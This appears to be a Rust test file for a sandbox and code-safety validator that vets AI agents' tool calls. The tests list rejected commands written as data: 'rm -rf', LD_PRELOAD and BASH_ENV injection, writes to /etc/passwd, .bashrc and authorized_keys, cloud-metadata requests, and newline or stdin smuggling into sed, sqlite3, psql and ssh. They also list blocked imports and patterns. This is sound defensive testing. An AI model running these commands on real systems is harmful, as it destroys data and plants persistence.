//! Tests with calls as a kernel makes them: forms of arguments, unknown validators, declared rules, and rejections.

use mgp_types::UniqueJson;
use mgp_types::mgp::{CodeSafety, CodeSafetyLevel, TrustLevel, Validator};
use mgp_validators::{CodePolicy, GuardedCall, NetworkRules, Rejection, Resolver, ValidatorSet};
use serde_json::{Value, json};
use std::{net::IpAddr, sync::Arc};

fn sandbox(arguments: &Value) -> Result<(), Rejection> {
    ValidatorSet::new().check(&Validator::Sandbox, &GuardedCall::new("run_command", arguments))
}

#[test]
fn a_command_is_found_in_every_shape_of_arguments() {
    for arguments in [
        json!({"command": "rm -rf x"}),
        json!({"cmd": "ls; id"}),
        json!({"CommandLine": "sudo ls"}),
        json!({"argv": ["rm", "-rf", "x"]}),
        json!({"command": "rm", "args": ["-rf", "x"]}),
        json!({"command": "rm", "args": "-rf x"}),
        json!({"command": ["bash", "-c", "id"]}),
        json!({"commands": ["ls", "rm -rf x"]}),
        json!({"commands": [{"command": "ls"}, {"program": "rm", "args": ["-r", "x"]}]}),
        json!({"request": {"options": {"cmd": "sudo ls"}}}),
        json!({"program": "/bin/rm", "arguments": ["-rf", "x"]}),
        json!({"task": "rm -rf x"}),
        json!({"command": ["ls", "|", "rm", "-r", "x"]}),
        json!({"argv": ["ls", ">", "o.txt"]}),
        json!({"command": "echo", "args": ["x", "&&", "id"]}),
        json!({"command": "ls", "env": {"LD_PRELOAD": "/tmp/x.so"}}),
        json!({"command": "ls", "shell": "bash -c id"}),
        json!({"command": "ls", "note": "a\u{202e}b"}),
        json!({"command": ["ls", "a\u{0}b"]}),
        json!({"command": "ls", "pre_command": "rm -rf x"}),
        json!({"command": "ls", "setupCommands": ["rm -rf x"]}),
        json!({"bash_cmd": "rm -rf x", "command": "ls"}),
        json!({"command": "rm", "extra_args": "-rf x"}),
        json!({"command": "rm", "flags": ["-rf"], "path": "x"}),
        json!({"command": "ls", "env": ["LD_PRELOAD=/tmp/x.so"]}),
        json!({"command": "ls", "env": "A=b LD_PRELOAD=/tmp/x.so"}),
        json!({"command": "ls", "env": [{"name": "LD_PRELOAD", "value": "/tmp/x.so"}]}),
        json!({"command": "ls", "environment": {"A": {"BASH_ENV": 1}}}),
        json!({"commands": ["ls", null]}),
        json!({"command": "ls", "args": ["; rm -rf x"], "shell": true}),
        json!({"command": "ls a\u{200d}b"}),
    ] {
        assert!(sandbox(&arguments).is_err(), "{arguments}");
    }
    for arguments in [
        json!({"command": "ls -la", "cwd": "/work", "timeout": 5}),
        json!({"command": "grep", "args": ["-n", "a|b; rm -rf", "f"]}),
        json!({"argv": ["git", "status"]}),
        json!({"commands": ["ls", "git status"]}),
        json!({"command": "ls", "env": {"LANG": "C"}, "shell": true}),
        json!({"task": "ls"}),
        json!({"command": "ls", "args": null, "script": null, "cmd": ""}),
        json!({"command": "sed -n 5p x", "line": 5, "pre_command": "", "show_command": true}),
        json!({"test_command": "npm test", "path": "packages/a"}),
        json!({"command": "ls", "args": ["-la"], "shell": true}),
        json!({"command": "git commit -m '\u{1f469}\u{1f3fd}\u{200d}\u{1f4bb} \u{2764}\u{fe0f}\u{200d}\u{1f525}'"}),
        json!({"command": "ls", "env": {"PORT": 3000, "CI": true, "HOST": null}}),
        json!({"command": "ls", "env": ["LANG=C", "A=b=c"], "environment": "production"}),
        json!({"command": "cargo test", "extra_args": ["--", "--nocapture"], "options": {"x": 1}}),
    ] {
        assert_eq!(sandbox(&arguments), Ok(()), "{arguments}");
    }
}

#[test]
fn relative_paths_are_judged_in_the_working_folder() {
    for arguments in [
        json!({"command": "tee passwd", "cwd": "/etc"}),
        json!({"command": "cp a passwd", "working_directory": "/etc/"}),
        json!({"command": "sed -i s/a/b/ hosts", "workdir": "/etc"}),
        json!({"command": "sort", "args": ["-opasswd", "x"], "workingDirectory": "/etc"}),
        json!({"command": "tar xf a.tar", "cwd": "/etc"}),
        json!({"command": "curl -O https://a.example.com/passwd", "cwd": "/etc"}),
        json!({"command": "git apply x.patch", "directory": "/etc/nginx"}),
        json!({"command": "nice tee passwd", "cwd": "/etc"}),
        json!({"command": "xargs touch", "cwd": "/usr/bin", "stdin": "a"}),
        json!({"argv": ["tee", "etc/passwd"], "cwd": "/"}),
        json!({"command": "tar xf a.tar", "cwd": "/"}),
        json!({"command": "dd if=a of=etc/passwd", "cwd": "/"}),
        json!({"command": "tee ../../etc/passwd", "cwd": "/home/ada"}),
        json!({"command": "tee .bashrc", "cwd": "/home/ada"}),
        json!({"command": "cp k .ssh/authorized_keys", "cwd": "~"}),
        json!({"command": "curl -so.bashrc https://a.example.com/", "cwd": "/root"}),
        json!({"command": "touch x", "cwd": "/work", "working_dir": "/etc"}),
        json!({"command": "touch x", "options": {"cwd": "/etc"}}),
        json!({"cwd": "/etc", "commands": [{"command": "touch x", "cwd": "nginx"}]}),
        json!({"commands": [{"command": "touch x", "cwd": "/etc"}]}),
        json!({"command": "tee x", "cwd": "C:\\Windows\\System32"}),
        json!({"command": "tee ./etc/passwd", "cwd": "/app/.."}),
        json!({"command": "unzip -o /tmp/a.zip", "cwd": "/app/.."}),
        json!({"command": "curl -ssssssssssssssssssso.bashrc https://a.example.com/", "cwd": "/root"}),
        json!({"command": "tee .bashrc", "cwd": "/var/home/ada"}),
        json!({"command": "tee ../.bashrc", "cwd": "/root/project"}),
        json!({"command": "touch ../../bin/x", "cwd": "/opt/app"}),
        json!({"command": "touch git", "cwd": "/opt/homebrew/bin"}),
        json!({"command": "tee hooks/pre-commit", "cwd": "/opt/app/.git"}),
        json!({"command": "sqlite3 app.db 'DELETE FROM t'", "cwd": "/var/lib/dpkg"}),
        json!({"command": "sqlite3 app.db", "cwd": "/etc"}),
        json!({"command": "sqlite3 -Acf passwd 'SELECT 1' 'SELECT 2'", "cwd": "/etc"}),
        json!({"command": "sqlite3 app.db 'DELETE FROM t'", "cwd": "/var/lib/cassandra"}),
        json!({"command": "tar xf a.tar", "cwd": "/var/lib"}),
        json!({"command": "tee ../dpkg/status", "cwd": "/var/lib/app"}),
        json!({"command": "ls", "output_file": "/etc/passwd"}),
        json!({"command": "ls", "stdout": "/etc/cron.d/x"}),
        json!({"command": "ls", "stderrPath": "/home/ada/.bashrc"}),
        json!({"command": "ls", "output_file": "passwd", "cwd": "/etc"}),
        json!({"command": "ls", "options": {"stdout": ">> ~/.bashrc"}}),
    ] {
        assert!(sandbox(&arguments).is_err(), "{arguments}");
    }
    assert!(sandbox(&json!({"command": "ls", "cwd": "a".repeat(2_000)})).is_err());
}

#[test]
fn commands_in_the_folder_of_a_project_and_readers_in_one_of_the_system_pass() {
    for arguments in [
        json!({"command": "cat passwd", "cwd": "/etc"}),
        json!({"command": "sqlite3 app.db 'DELETE FROM t'", "cwd": "/var/lib/app"}),
        json!({"command": "sqlite3 -json x.db 'SELECT 1' .tables", "cwd": "/etc"}),
        json!({"command": "git log --oneline", "cwd": "/etc"}),
        json!({"command": "docker ps", "cwd": "/"}),
        json!({"command": "mkdir data", "cwd": "/"}),
        json!({"command": "npm test", "cwd": "/usr/src/app"}),
        json!({"command": "touch a.txt", "cwd": "/root/project"}),
        json!({"command": "cp a.txt .", "cwd": "/tmp"}),
        json!({"command": "cp -rv a b", "cwd": "/home/ada/project"}),
        json!({"command": "cargo build", "cwd": "C:\\Users\\ada\\project"}),
        json!({"command": "git commit -m x", "cwd": "~/.config/nvim"}),
        json!({"command": "ls", "output_file": "out/list.txt", "cwd": "/work"}),
        json!({"command": "ls", "stdout": "pipe", "output": "json", "cwd": "/etc"}),
        json!({"command": "ls", "output_file": "/dev/null", "log_file": "/tmp/x.log"}),
        json!({"command": "ls", "output_file": "C:\\Users\\ada\\out.txt"}),
        json!({"command": "make", "cwd": "a", "directory": "b", "workdir": "c"}),
        json!({"command": "npm test", "cwd": "/var/home/ada/project"}),
        json!({"command": "touch a.txt", "cwd": "/System/Volumes/Data/Users/ada/project"}),
        json!({"command": "cp a.txt ../backend/b.txt", "cwd": "/opt/app/frontend"}),
        json!({"command": "touch ../../README.md", "cwd": "/usr/src/app/packages/a"}),
        json!({"command": "cp a.txt ..", "cwd": "/tmp/x"}),
        json!({"command": "curl -d '{\"a\": 1}' https://a.example.com/", "cwd": "/"}),
        json!({"command": "tar xzf a.tgz -C /tmp/x", "cwd": "/"}),
        json!({"command": "tar czf /tmp/a.tgz app", "cwd": "/"}),
        json!({"command": "ping -c 3 example.com", "cwd": "/etc"}),
        json!({"command": "tail -c 100 syslog", "cwd": "/var/log"}),
        json!({"command": "openssl x509 -noout -in a.pem", "cwd": "/etc/ssl"}),
    ] {
        assert_eq!(sandbox(&arguments), Ok(()), "{arguments}");
    }
}

#[test]
fn a_command_without_the_program_after_which_the_tool_is_named_is_judged_with_it() {
    let check = |tool, command: &str| {
        let arguments = json!({ "command": command });
        ValidatorSet::new().check(&Validator::Sandbox, &GuardedCall::new(tool, &arguments))
    };
    for (tool, command) in [
        ("run_kubectl", "delete ns prod"),
        ("kubectl", "exec web -- rm -rf /data"),
        ("docker", "run --privileged x"),
        ("git_command", "-c core.pager=id log -p"),
        ("curl", "http://169.254.169.254/"),
    ] {
        assert!(check(tool, command).is_err(), "{tool}: {command}");
    }
    for (tool, command) in [
        ("run_kubectl", "get pods -A"),
        ("run_kubectl", "kubectl get pods"),
        ("docker_exec", "ls -la /app"),
        ("git_command", "log --oneline"),
        ("git_command", "/usr/bin/git status"),
        ("aws_cli", "aws s3 ls"),
    ] {
        assert_eq!(check(tool, command), Ok(()), "{tool}: {command}");
    }
}

#[test]
fn code_in_standard_input_is_judged_in_the_language_of_the_program() {
    for arguments in [
        json!({"command": "sed -f - notes.txt", "stdin": "1e id"}),
        json!({"command": "sed -nf - notes.txt", "stdin": "w /etc/x"}),
        json!({"command": "awk -f - data.csv", "input": "{ system($1) }"}),
        json!({"command": "nice awk -f /dev/stdin x", "stdin": "BEGIN { print > \"/etc/x\" }"}),
        json!({"command": "sqlite3 app.db", "stdin": "select 1;\n.shell id"}),
        json!({"program": "sqlite3", "args": ["app.db"], "stdin": ".import '|id' t"}),
        json!({"command": "psql -h db app", "stdin": "\\! id"}),
        json!({"command": "psql -f - app", "stdin": "copy t to program 'id'"}),
        json!({"command": "mysql app", "stdin": "system id"}),
        json!({"command": "redis-cli", "stdin": "CONFIG SET dir /x"}),
        json!({"command": "xargs rm", "stdin": "-rf build"}),
        json!({"command": "xargs -I{} env {} x", "stdin": "sudo"}),
        json!({"command": "xargs", "args": ["git"], "standard_input": "-c core.pager=id log"}),
        json!({"command": "ssh build", "stdin": "rm -rf work"}),
        json!({"command": "docker exec -i web sh", "stdin": "sudo id"}),
        json!({"command": "docker exec -i web python3", "stdin": "print(1)"}),
        json!({"command": "m4", "stdin": "syscmd(id)"}),
        json!({"command": "python3 -", "stdin": "print(1)"}),
        json!({"command": "bash -s", "stdin": "ls"}),
        json!({"command": "node -", "stdin": "1"}),
        json!({"command": "perl", "stdin": "print 1"}),
        json!({"command": "sqlite3 app.db", "stdin": ["select 1"]}),
        json!({"command": "sed -f - notes.txt"}),
    ] {
        assert!(sandbox(&arguments).is_err(), "{arguments}");
    }
    for arguments in [
        json!({"command": "sed -f - notes.txt", "stdin": "s/a/b/g"}),
        json!({"command": "sed 's/a/b/'", "stdin": "1e id"}),
        json!({"command": "awk -f - data.csv", "stdin": "{ print $1 }"}),
        json!({"command": "sqlite3 app.db", "stdin": "select count(*) from t;\n.tables"}),
        json!({"command": "sqlite3 app.db 'select 1'", "stdin": ".shell id"}),
        json!({"command": "psql app", "stdin": "select 1"}),
        json!({"command": "xargs wc -l", "stdin": "a.txt\nb.txt"}),
        json!({"command": "ssh build", "stdin": "uptime\nls -la"}),
        json!({"command": "docker exec -i web sh", "stdin": "ls /app"}),
        json!({"command": "kubectl apply -f -", "stdin": "kind: Pod\nmetadata: {name: $(x)}"}),
        json!({"command": "python3 tool.py", "stdin": "rm -rf /"}),
        json!({"command": "cat", "input": "rm -rf / | sh"}),
        json!({"command": "sort", "stdin": null}),
        json!({"command": "grep x", "stdin": true}),
    ] {
        assert_eq!(sandbox(&arguments), Ok(()), "{arguments}");
    }
}

#[test]
fn a_newline_in_quotes_or_in_an_item_is_data() {
    for arguments in [
        json!({"command": "git commit -m \"Title\n\nBody\""}),
        json!({"command": "git commit -m 'Title\r\n\r\nBody'"}),
        json!({"command": "git", "args": ["commit", "-m", "Title\n\nBody"]}),
        json!({"argv": ["gh", "pr", "create", "--body", "Adds a test.\n"]}),
        json!({"command": "awk '\n{ print $1 }\n' data.csv"}),
        json!({"command": "sqlite3 app.db 'select 1;\n.tables'"}),
        json!({"command": "cat package.json\n"}),
        json!({"command": "git status\r\n"}),
    ] {
        assert_eq!(sandbox(&arguments), Ok(()), "{arguments}");
    }
    for arguments in [
        json!({"command": "ls\nid"}),
        json!({"command": "ls\rid"}),
        json!({"command": "ls", "args": "x\nid"}),
        json!({"commands": ["ls", "ls\nrm -rf x"]}),
        json!({"command": ["bash", "-c", "ls\nid"]}),
        json!({"command": "sed 'p\n1e id' f"}),
        json!({"command": "sed -n 'w /dev/stdout\n1e id' f"}),
        json!({"command": "awk '1\n{ print | \"sh\" }' f"}),
        json!({"command": "mysql -e 'select 1;\nsystem id' app"}),
        json!({"command": "make 'X=a\nid'"}),
        json!({"command": "ssh build 'ls\nrm -rf x'"}),
        json!({"command": "watch 'ls\nid'"}),
    ] {
        assert!(sandbox(&arguments).is_err(), "{arguments}");
    }
}

#[test]
fn the_placeholder_of_xargs_is_not_a_word_of_its_command() {
    let args = ["-i", "-t", "nice", "{}"];
    let arguments = json!({"command": "xargs", "args": args, "stdin": "sudo"});
    assert!(sandbox(&arguments).is_err());
    let arguments = json!({"command": "xargs --replace cp {} dest/", "stdin": "a.txt"});
    assert_eq!(sandbox(&arguments), Ok(()));
}

#[test]
fn what_cannot_be_judged_is_blocked() {
    for arguments in [
        json!({}),
        json!([]),
        json!("ls"),
        json!(null),
        json!({"command": 5}),
        json!({"command": null}),
        json!({"command": true}),
        json!({"command": []}),
        json!({"command": ""}),
        json!({"command": {"x": "ls"}}),
        json!({"argv": ["ls", ["x"]]}),
        json!({"a": "ls", "b": "ls"}),
        json!({"command": "x".repeat(70_000)}),
    ] {
        assert!(sandbox(&arguments).is_err(), "{arguments}");
    }
    let arguments = json!({"command": "ls"});
    let call = GuardedCall::new("run", &arguments);
    let unknown = Validator::from("sandbx");
    let rejection = ValidatorSet::new().check(&unknown, &call).expect_err("unknown");
    assert!(
        rejection.reason().contains("unknown validator `sandbx`; known: sandbox"),
        "{rejection}"
    );
    assert_eq!(ValidatorSet::new().check(&Validator::None, &call), Ok(()));
    for text in [r#"{"command":"ls","command":"rm -rf x"}"#, r#"{"a":[{"b":1,"b":2}]}"#] {
        assert!(serde_json::from_str::<UniqueJson>(text).is_err(), "{text}");
    }
}

fn rules(level: CodeSafetyLevel) -> CodeSafety {
    let mut rules = CodeSafety::new(level);
    rules.language = Some("python".to_owned());
    rules.max_code_size_bytes = Some(100);
    rules.blocked_imports = vec!["subprocess".to_owned(), "shutil".to_owned()].into();
    rules.blocked_patterns = vec!["eval(".to_owned()].into();
    rules.allowed_imports = vec!["json".to_owned()].into();
    rules
}

#[test]
fn a_rejection_of_code_names_the_rules() {
    let code = "from subprocess import run as r\nx = eval\nx('1')";
    let rejection =
        CodePolicy::new(&rules(CodeSafetyLevel::Standard)).check(code).expect_err("blocked");
    let body = serde_json::to_value(rejection.body()).expect("JSON");
    assert_eq!(
        body,
        json!({
            "status": "rejected",
            "reason": "Code validation failed",
            "violations": ["Blocked import: 'subprocess'", "Blocked pattern: 'eval('"],
            "hints": {
                "blocked_imports": ["subprocess", "shutil"],
                "allowed_imports": ["json"],
                "max_code_size_bytes": 100,
            }
        })
    );
    assert_eq!(rejection.validator(), &Validator::CodeSafety);
}

#[test]
fn levels_add_rules() {
    let long = "x = 1\n".repeat(20);
    for (level, code, allowed) in [
        (CodeSafetyLevel::Unrestricted, "import subprocess", true),
        (CodeSafetyLevel::Standard, "import re", true),
        (CodeSafetyLevel::Standard, &long, true),
        (CodeSafetyLevel::Strict, "import re", false),
        (CodeSafetyLevel::Strict, "import json", true),
        (CodeSafetyLevel::Strict, &long, false),
        (CodeSafetyLevel::Strict, "open('a', 'w')", true),
        (CodeSafetyLevel::Readonly, "open('a', 'w')", false),
        (CodeSafetyLevel::Readonly, "open('a').read()", true),
        (CodeSafetyLevel::from("lax"), "open('a', 'w')", false),
    ] {
        let decided = CodePolicy::new(&rules(level.clone())).check(code);
        assert_eq!(decided.is_ok(), allowed, "{level}: {code}: {decided:?}");
    }
}

#[test]
fn a_second_declaration_only_tightens() {
    let mut wide = rules(CodeSafetyLevel::Unrestricted);
    wide.allowed_imports = vec!["json".to_owned(), "re".to_owned()].into();
    wide.max_code_size_bytes = Some(5_000);
    let policy = CodePolicy::new(&wide).tightened(&rules(CodeSafetyLevel::Strict));
    assert!(policy.check("import re").is_err());
    assert!(policy.check("import json").is_ok());
    assert!(
        CodePolicy::new(&rules(CodeSafetyLevel::Strict))
            .tightened(&wide)
            .check("import re")
            .is_err()
    );
}

#[test]
fn code_is_found_by_its_argument_and_judged_in_its_language() {
    let check = |arguments: Value, policy: CodePolicy| {
        ValidatorSet::new()
            .check(&Validator::CodeSafety, &GuardedCall::new("run", &arguments).code(policy))
    };
    let mut any = rules(CodeSafetyLevel::Standard);
    any.language = None;
    let (python, any) = (CodePolicy::new(&rules(CodeSafetyLevel::Standard)), CodePolicy::new(&any));
    for (arguments, policy, allowed) in [
        (json!({"code": "x = 1", "name": "a; b"}), python.clone(), true),
        (json!({"code": "eval('1')"}), python.clone(), false),
        (json!({"cells": [{"source": "x = 1"}, {"source": "eval('1')"}]}), python.clone(), false),
        (json!({"whatever": "eval('1')"}), python.clone(), false),
        (json!({"a": "x", "b": "y"}), python.clone(), false),
        (json!({"code": 1}), python.clone(), false),
        (json!({"code": "x = (", "name": "a"}), python.clone(), false),
        (json!({"code": "puts 1", "language": "ruby"}), python, false),
        (json!({"code": "const x = 1", "language": "JavaScript"}), any.clone(), true),
        (
            json!({"code": "let x: number = 1; eval('1')", "language": "typescript"}),
            any.clone(),
            false,
        ),
        (json!({"code": "let x: number = 1 as any", "language": "ts"}), any.clone(), true),
        (
            json!({"code": "ls | grep a > out.txt\ngit status", "language": "bash"}),
            any.clone(),
            true,
        ),
        (json!({"code": "ls\nrm -rf x", "language": "bash"}), any.clone(), false),
        (json!({"code": "export BASH_ENV=x\nls", "language": "bash"}), any.clone(), false),
        (json!({"code": "export ${X}BASH_ENV=x\nls", "language": "bash"}), any.clone(), false),
        (json!({"code": "export {BASH_ENV,A}=x\nls", "language": "bash"}), any.clone(), false),
        (json!({"code": "printf -v PATH %s ./x\nls", "language": "bash"}), any.clone(), false),
        (json!({"code": "read -r PATH < a\nls", "language": "bash"}), any.clone(), false),
        (json!({"code": "read -r line < a\nls", "language": "bash"}), any.clone(), true),
        (json!({"code": "export A=$HOME/{a,b}\nls", "language": "bash"}), any.clone(), true),
        (json!({"code": "ls > /etc/x", "language": "bash"}), any.clone(), false),
        (json!({"code": "puts 1", "language": "ruby"}), any.clone(), false),
        (json!({"code": "x = 1", "languageId": "python"}), any.clone(), true),
        (json!({"code": "x = 1", "language": null, "languageId": "python"}), any.clone(), true),
        (json!({"code": "eval('1')", "languageId": "python"}), any.clone(), false),
        (json!({"snippet": "ls", "programming_language": "shellscript"}), any.clone(), true),
        (json!({"code": "1", "languageId": "python", "lang": "perl"}), any.clone(), false),
        (json!({"code": "1", "language": "perl", "languageId": "python"}), any.clone(), false),
        (json!({"code": "x = 1"}), any, false),
    ] {
        let decided = check(arguments.clone(), policy);
        assert_eq!(decided.is_ok(), allowed, "{arguments}: {decided:?}");
    }
    let definition =
        json!({"security": {"code_safety": {"level": "standard", "language": "python"}}});
    let arguments = json!({"code": "import os\nos.system('id')"});
    let call = GuardedCall::new("run", &arguments);
    let validators = ValidatorSet::new();
    assert!(
        validators.check(&Validator::CodeSafety, &call.clone().definition(&definition)).is_err()
    );
    assert!(validators.check(&Validator::CodeSafety, &call).is_err(), "no rules are declared");
}

#[test]
fn a_script_feeds_no_command_with_code_that_is_not_judged() {
    let policy = CodePolicy::new(&CodeSafety::new(CodeSafetyLevel::Standard));
    let check = |code: &str| {
        let arguments = json!({"code": code, "language": "bash"});
        let call = GuardedCall::new("run", &arguments).code(policy.clone());
        ValidatorSet::new().check(&Validator::CodeSafety, &call)
    };
    for code in [
        "printf '%s\\n' -rf src | xargs rm",
        "echo sudo | xargs env",
        "echo x |\n xargs rm",
        "echo x |& xargs rm",
        "echo '-cimport os' | xargs python3",
        "ls | xargs git",
        "ls | xargs find src",
        "ls | parallel",
        "echo '.shell id' | sqlite3 a.db",
        "echo '.shell id' | sqlite3 a.db < /dev/stdin",
        "echo '.shell id' | sqlite3 -separator , a.db",
        "echo '\\! id' | psql -e app",
        "echo 'system id' | mysql -c app",
        "echo 'eval x 0' | redis-cli -h redis",
        "echo '\\! id' | nice psql app",
        "echo 'rm -rf /' | ssh build",
        "echo 'rm -rf /' | ssh -p 22 build",
        "ssh build < cmds",
        "cat cmds | ssh build",
        "cat cmds | docker exec -i web sh",
        "echo '\\! id' | cat - | psql app",
        "cat a.sql | sed s/a/b/ | psql app",
        "cat a.sql | psql app < /dev/stdin",
        "cat | psql app",
        "xargs rm < list",
        "docker exec -i web sh < cmds",
        "echo 'rm -rf /' | docker exec -i web sh",
    ] {
        assert!(check(code).is_err(), "{code}");
    }
    for code in [
        "ls | xargs wc -l",
        "ls | xargs",
        "ls | xargs -n 1",
        "grep -rl foo src | xargs sed -i 's/foo/bar/g'",
        "ls | xargs -I{} cp {} dest/",
        "ls | xargs git add",
        "ls | xargs -n 1 python3 tool.py",
        "cat a.json | python3 -m json.tool",
        "cat a.csv | sort | uniq -c > b.csv",
        "sort < a.txt",
        "cat a.txt | ssh build 'wc -l'",
        "echo x | sqlite3 a.db 'select 1'",
        "sqlite3 a.db < schema.sql",
        "psql -U me app < dump.sql",
        "cat dump.sql | psql -U me app",
        "cat schema.sql data.sql |\n sqlite3 a.db",
        "docker exec -i db mysql -uroot app < dump.sql",
        "cat a.csv | psql -qc 'COPY t FROM STDIN CSV'",
        "cat urls.txt | xargs -I{} curl -sO {}",
        "true || sqlite3 a.db",
        "ls | wc -l\nsqlite3 a.db",
    ] {
        assert_eq!(check(code), Ok(()), "{code}");
    }
}

#[test]
fn patterns_that_are_no_names_are_looked_for_without_blanks() {
    let mut with = rules(CodeSafetyLevel::Standard);
    with.blocked_patterns =
        vec!["while True:".to_owned(), ".system(".to_owned(), "Popen(".to_owned()].into();
    let policy = CodePolicy::new(&with);
    for code in ["while  True :\n    pass", "x.system('id')", "import mod\nmod.Popen('id')"] {
        assert!(policy.check(code).is_err(), "{code}");
    }
    assert_eq!(policy.check("while x:\n    system = 1"), Ok(()));
}

#[derive(Debug)]
struct Rebinding;

impl Resolver for Rebinding {
    fn resolve(&self, name: &str) -> Vec<IpAddr> {
        let public = !name.starts_with("private");
        vec![if public { "93.184.215.14" } else { "10.0.0.1" }.parse().expect("an address")]
    }
}

#[test]
fn names_are_resolved_and_checked_again_at_the_connection() {
    let rules = NetworkRules::new().resolver(&Rebinding);
    assert_eq!(rules.check_url("https://public.example/"), Ok(()));
    assert!(rules.check_url("https://private.example/").is_err());
    assert!(rules.check_connect("127.0.0.1".parse().expect("an address")).is_err());
    assert!(
        rules.check_redirects("https://a.example/", &["/b", "https://private.example/"]).is_err()
    );
    assert_eq!(rules.check_redirects("https://a.example/", &["/b", "//c.example/d"]), Ok(()));
    let many = vec!["https://b.example/"; 11];
    assert!(rules.check_redirects("https://a.example/", &many).is_err());
    let validators = ValidatorSet::new().resolver(Arc::new(Rebinding));
    let arguments = json!({"url": "https://private.example/"});
    assert!(
        validators
            .check(&Validator::NetworkRestricted, &GuardedCall::new("fetch", &arguments))
            .is_err()
    );
}

#[test]
fn a_number_under_the_name_of_a_declared_host_is_an_address() {
    let arguments = json!({"machine": 2_130_706_433});
    let call = GuardedCall::new("ping", &arguments);
    let check =
        |call: GuardedCall<'_>| ValidatorSet::new().check(&Validator::NetworkRestricted, &call);
    assert_eq!(check(call.clone()), Ok(()));
    assert!(check(call.targets(Vec::new(), vec!["machine".to_owned()])).is_err());
}

#[test]
fn a_hint_of_a_sandboxed_server_admits_nothing() {
    let (arguments, definition) = (json!({}), json!({"annotations": {"readOnlyHint": true}}));
    let call = GuardedCall::new("ponder", &arguments).definition(&definition);
    let check = |call: GuardedCall<'_>| ValidatorSet::new().check(&Validator::Readonly, &call);
    assert!(check(call.clone()).is_err());
    assert_eq!(check(call.trust(TrustLevel::Standard)), Ok(()));
}
